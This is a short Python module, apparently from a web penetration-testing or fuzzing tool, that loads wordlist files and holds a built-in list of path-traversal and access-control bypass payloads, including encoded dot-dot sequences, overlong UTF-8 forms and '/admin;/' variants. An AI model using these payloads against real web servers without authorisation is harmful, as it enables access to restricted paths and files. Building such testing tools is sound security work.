"""Loading bypass payload wordlists."""

from __future__ import annotations

from pathlib import Path

# Whitespace-separated; order and repeats are significant.
_DEFAULT_PAYLOADS = tuple(
    r"""
    / // /./ /%2e/ /%20 /..;/ /.././ /;/
    /;foo=bar /./ /.%2e/ /%2e%2e/ /%2e%2e%2f/
    /..%00/ /..%01/ /..// /..\/ /%5C../ /%2e%2e\/
    /..%255c /..%255c..%255c /..%5c..%5c /.%252e/ /%252e/
    /..%c0%af /..%c1%9c /%%32%65 /%%32%65/ /..%bg%qf
    /..%u2215 /..%u2216 /..0x2f /0x2e0x2e/
    /..%c0%ae%c0%ae/ /%%c0%ae%%c0%ae/ /%%32%%65%%32%%65/
    /.. /%2e%2e /.%2e /admin;/ /admin/..;/ /%2e%2e/admin /admin/...;/
    """.split()
)


class WordlistError(Exception):
    """Raised when a wordlist cannot be read."""


def load(path: str | Path) -> list[str]:
    """Return the non-empty lines of a wordlist file."""
    file_path = Path(path)
    if not file_path.exists():
        raise WordlistError(f"wordlist file not found: {path}")
    try:
        text = file_path.read_text(encoding="utf-8", errors="replace")
    except OSError as exc:
        raise WordlistError(str(exc)) from exc
    lines = (line.removesuffix("\r") for line in text.split("\n"))
    return [line for line in lines if line]


def default_payloads() -> list[str]:
    """Return the built-in payloads used when no wordlist is available."""
    return list(_DEFAULT_PAYLOADS)